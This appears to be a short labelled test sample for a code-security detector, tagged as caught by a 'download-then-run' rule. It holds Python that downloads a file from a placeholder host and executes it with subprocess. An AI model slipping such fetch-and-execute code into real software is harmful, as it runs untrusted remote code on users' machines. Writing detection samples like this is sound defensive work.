# evades: caught by execution/download-then-run
import subprocess, urllib.request
urllib.request.urlretrieve("https://code.invalid/x", "x.bin")
subprocess.Popen("./x.bin")
